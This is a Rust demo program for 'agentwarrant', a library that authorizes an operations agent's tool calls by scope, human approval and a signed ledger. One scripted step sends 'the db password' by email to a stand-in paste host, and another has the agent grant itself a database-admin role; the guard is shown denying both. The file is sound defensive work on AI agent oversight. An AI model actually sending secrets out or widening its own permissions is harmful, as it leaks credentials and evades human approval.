//! `agentwarrant demo`: an operations agent fixing a production incident, on the default bundle.
//!
//! It shows routine reads flowing with no friction, a production change and a secret read
//! approved by a second person, an RBAC change refused when the owner approves it, a secret
//! sent outside denied as exfiltration, a call drifting beyond the intent sent for approval,
//! and a delegation chain cut at the depth limit.

use std::path::PathBuf;

use agentwarrant::ledger::CheckpointKey;
use agentwarrant::testing::{Script, ScriptedApprover};
use agentwarrant::{
    CallId, FileLedger, Guard, Identity, Impact, Intent, Outcome, Role, Task, ToolCall, ToolSpec,
};
use serde_json::{json, Value};

fn tools() -> Result<Vec<ToolSpec>, agentwarrant::BuildError> {
    Ok(vec![
        ToolSpec::builder("read_logs", Impact::Low)
            .scope("logs.read:{service}")
            .build()?,
        ToolSpec::builder("update_config", Impact::Medium)
            .scope("config.write:{service}")
            .build()?,
        ToolSpec::builder("read_secret", Impact::Low)
            .reads(["secret"])
            .scope("secrets.read:{path}")
            .build()?,
        ToolSpec::builder("grant_role", Impact::Medium)
            .tags(["rbac"])
            .scope("rbac.grant:{role}")
            .build()?,
        ToolSpec::builder("send_email", Impact::Medium)
            .external(true)
            .sink(true)
            .scope("email.send:{to}")
            .destination_arg("to")
            .sensitive_args(["body"])
            .build()?,
        ToolSpec::builder("restart_service", Impact::Medium)
            .scope("service.restart:{service}")
            .build()?,
        ToolSpec::builder("delegate", Impact::Low)
            .scope("agents.delegate:{agent}")
            .build()?,
    ])
}

/// One row of the table.
struct Row {
    step: usize,
    identity: String,
    tool: String,
    decision: String,
    reasons: String,
    approver: String,
}

struct Session {
    approver: ScriptedApprover,
    rows: Vec<Row>,
}

impl Session {
    /// Authorizes and runs one call with `who` answering approvals; returns the call id when
    /// it ran.
    fn call(
        &mut self,
        task: &Task,
        who: Script,
        tool: &str,
        args: Value,
        parent: Option<CallId>,
    ) -> Option<CallId> {
        self.approver.set(who.clone());
        let asked_before = self.approver.requests().len();
        let mut call = ToolCall::new(tool, args);
        if let Some(parent) = parent {
            call = call.child_of(parent);
        }
        let (decision, reasons, approver, ran) = match task.authorize(call) {
            Ok(warrant) => {
                let decision = if warrant.approved() {
                    "approved"
                } else {
                    "allowed"
                };
                let reasons = codes(warrant.decision().reasons.iter().map(|r| r.code.as_str()));
                let approver = warrant.approvers().join(", ");
                let id = warrant.call_id();
                if let Err(error) = warrant.complete(Outcome::ok()) {
                    eprintln!("warning: {error}");
                }
                (decision, reasons, approver, Some(id))
            }
            Err(refusal) => {
                let asked = self.approver.requests().len() > asked_before;
                let approver = if asked { rejected(&who) } else { String::new() };
                (
                    refusal.kind.as_str(),
                    codes(refusal.codes().into_iter()),
                    approver,
                    None,
                )
            }
        };
        self.rows.push(Row {
            step: self.rows.len() + 1,
            identity: task.identity().id().to_owned(),
            tool: tool.to_owned(),
            decision: decision.to_owned(),
            reasons,
            approver,
        });
        ran
    }
}

fn codes<'a>(codes: impl Iterator<Item = &'a str>) -> String {
    let mut seen: Vec<&str> = Vec::new();
    for code in codes {
        if !seen.contains(&code) {
            seen.push(code);
        }
    }
    seen.join(", ")
}

/// How a refused approver shows in the table.
fn rejected(script: &Script) -> String {
    match script {
        Script::Approve(who) => format!("{who} (rejected)"),
        Script::Deny(who) => format!("{who} (refused)"),
        Script::Unavailable => "none".into(),
    }
}

/// Plays the session and prints the table; the ledger is verified at the end.
pub(crate) fn run(ledger: Option<PathBuf>) -> Result<u8, String> {
    let path = ledger.unwrap_or_else(|| {
        std::env::temp_dir().join(format!("agentwarrant-demo-{}.jsonl", std::process::id()))
    });
    let error = |e: &dyn std::fmt::Display| e.to_string();
    let approver = ScriptedApprover::new(Script::Unavailable);
    // Checkpoints signed every 8 records and on close: `verify --key` proves nobody rewrote it.
    let key = CheckpointKey::generate();
    let ledger = FileLedger::options()
        .checkpoints(key.clone(), 8)
        .open(&path)
        .map_err(|e| error(&e))?;
    let guard = Guard::builder()
        .tools(tools().map_err(|e| error(&e))?)
        .approver(approver.clone())
        .ledger(ledger)
        .env("prod")
        .build()
        .map_err(|e| error(&e))?;
    let ops = Identity::builder("agent://acme/ops-bot", Role::Executor, "alice@acme.com")
        .ceiling([
            "logs.read:*",
            "config.write:*",
            "secrets.read:*",
            "rbac.grant:*",
            "email.send:*",
            "service.restart:*",
            "agents.delegate:*",
        ])
        .build()
        .map_err(|e| error(&e))?;
    let intent = Intent::builder("fix the checkout latency regression in prod")
        .scopes([
            "logs.read:*",
            "config.write:checkout",
            "secrets.read:checkout/*",
            "email.send:*@acme.com",
            "agents.delegate:*",
        ])
        .max_impact(Impact::Medium)
        .build()
        .map_err(|e| error(&e))?;
    let task = guard.begin(ops, intent).map_err(|e| error(&e))?;
    let researcher = Identity::builder("agent://acme/researcher", Role::Executor, "carol@acme.com")
        .ceiling(["logs.read:*", "agents.delegate:*"])
        .build()
        .map_err(|e| error(&e))?;
    let sub = task.delegate(researcher, None).map_err(|e| error(&e))?;

    let bob = || Script::Approve("bob@acme.com".into());
    let alice = || Script::Approve("alice@acme.com".into());
    let mut s = Session {
        approver,
        rows: Vec::new(),
    };
    s.call(
        &task,
        Script::Unavailable,
        "read_logs",
        json!({"service": "checkout"}),
        None,
    );
    s.call(
        &task,
        Script::Unavailable,
        "read_logs",
        json!({"service": "payments"}),
        None,
    );
    s.call(
        &task,
        bob(),
        "update_config",
        json!({"service": "checkout", "pool_size": 64}),
        None,
    );
    s.call(
        &task,
        bob(),
        "read_secret",
        json!({"path": "checkout/db"}),
        None,
    );
    s.call(
        &task,
        alice(),
        "grant_role",
        json!({"role": "db-admin", "user": "ops-bot"}),
        None,
    );
    s.call(
        &task,
        bob(),
        "send_email",
        json!({"to": "dump@paste-bin.example", "body": "the db password"}),
        None,
    );
    s.call(
        &task,
        bob(),
        "restart_service",
        json!({"service": "payments"}),
        None,
    );
    // A delegation chain: each level hands the work one level down, until the depth limit.
    let mut parent = s.call(
        &task,
        Script::Unavailable,
        "delegate",
        json!({"agent": "researcher"}),
        None,
    );
    for _ in 0..4 {
        parent = s.call(
            &sub,
            Script::Unavailable,
            "delegate",
            json!({"agent": "researcher"}),
            parent,
        );
    }
    drop(sub);
    task.end().map_err(|e| error(&e))?;
    // The ledger closes (its closing checkpoint is written) when the last handle goes.
    drop(task);
    drop(guard);

    print_table(&s.rows);
    let verifying = key.verifying_key();
    let report = agentwarrant::ledger::verify_signed(&path, &verifying).map_err(|e| error(&e))?;
    let head = report.head;
    out!();
    out!(
        "ledger: {} ({} records, head {})",
        path.display(),
        head.records,
        head.hash
    );
    out!(
        "verify it with: agentwarrant verify {} --key {}",
        path.display(),
        verifying.to_hex()
    );
    Ok(crate::SUCCESS)
}

fn print_table(rows: &[Row]) {
    let header = [
        "step", "identity", "tool", "decision", "reasons", "approver",
    ];
    let cells: Vec<[String; 6]> = rows
        .iter()
        .map(|r| {
            [
                r.step.to_string(),
                r.identity.clone(),
                r.tool.clone(),
                r.decision.clone(),
                r.reasons.clone(),
                r.approver.clone(),
            ]
        })
        .collect();
    let widths: Vec<usize> = (0..6)
        .map(|i| {
            cells
                .iter()
                .map(|c| c[i].len())
                .chain([header[i].len()])
                .max()
                .unwrap_or(0)
        })
        .collect();
    let line = |values: [&str; 6]| {
        let padded: Vec<String> = values
            .iter()
            .zip(&widths)
            .map(|(v, w)| format!("{v:<w$}"))
            .collect();
        out!("{}", padded.join("  ").trim_end());
    };
    line(header);
    line([
        "----", "--------", "----", "--------", "-------", "--------",
    ]);
    for c in &cells {
        line([&c[0], &c[1], &c[2], &c[3], &c[4], &c[5]]);
    }
}
